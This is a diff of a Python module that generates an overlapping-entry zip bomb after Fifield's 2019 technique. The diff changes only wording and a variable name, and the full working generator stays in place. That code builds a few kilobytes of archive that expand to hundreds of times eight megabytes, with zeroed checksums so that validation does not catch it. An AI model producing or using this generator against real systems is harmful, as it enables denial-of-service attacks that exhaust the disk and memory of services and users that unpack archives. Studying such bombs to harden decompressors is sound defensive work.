@@ -1,7 +1,7 @@
-"""A zip bomb that needs no nesting: hundreds of entries that all share one kernel of compressed zeros.
+"""A zip bomb without nesting: hundreds of entries that share one kernel of compressed zeros.
 
-As D. Fifield described it ("A better zip bomb", WOOT 2019): each local header is quoted, as an uncompressed deflate
-block, by the entry before it, so that every entry reads all the headers after its own and then the kernel.
+As described by D. Fifield ("A better zip bomb", WOOT 2019): each entry quotes the local header of the next one as an
+uncompressed deflate block, so that it reads all later headers and then the kernel.
 """
 
 import struct
@@ -11,7 +11,7 @@ KERNEL_MEGABYTES = 8
 
 
 def overlapping_zip(entries: int) -> bytes:
-    """Some kilobytes that unpack to `entries` times eight megabytes. Checksums are left out: who checks has lost."""
+    """Returns some kilobytes that unpack to `entries` times eight megabytes, with checksums of zero."""
     packer = zlib.compressobj(9, zlib.DEFLATED, -15)
     kernel = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(KERNEL_MEGABYTES)) + packer.flush()
     data, packed, size = kernel, len(kernel), KERNEL_MEGABYTES * 1_000_000
@@ -21,7 +21,7 @@ def overlapping_zip(entries: int) -> bytes:
         local = _local(name, packed, size)
         heads.insert(0, (name, packed, size))
         data = local + data
-        if number:  # the entry before quotes this header
+        if number:  # the previous entry quotes this header
             data = b"\0" + struct.pack("<HH", len(local), len(local) ^ 0xFFFF) + data
             packed, size = len(data), size + len(local)
     return data + _directory(heads, len(data))
@@ -32,12 +32,12 @@ def _local(name: bytes, packed: int, size: int) -> bytes:
 
 
 def _directory(heads: list[tuple[bytes, int, int]], start: int) -> bytes:
-    entries, place = b"", 0
+    entries, offset = b"", 0
     for name, packed, size in heads:
         entries += struct.pack(
             "<IHHHHHHIIIHHHHHII",
-            *(0x02014B50, 20, 20, 0, 8, 0, 0x21, 0, packed, size, len(name), 0, 0, 0, 0, 0, place),
+            *(0x02014B50, 20, 20, 0, 8, 0, 0x21, 0, packed, size, len(name), 0, 0, 0, 0, 0, offset),
         )
         entries += name
-        place += 30 + len(name) + 5
+        offset += 30 + len(name) + 5
     return entries + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(heads), len(heads), len(entries), start, 0)
